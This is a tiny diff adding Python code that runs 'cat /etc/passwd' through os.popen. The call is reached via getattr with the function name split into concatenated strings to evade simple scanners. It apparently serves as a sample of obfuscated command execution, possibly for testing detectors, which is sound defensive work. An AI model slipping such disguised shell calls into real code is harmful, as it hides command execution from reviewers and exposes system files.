@@ -1,0 +1,3 @@
+import os
+
+getattr(os, "po" + "pen")("cat /etc/passwd").read()
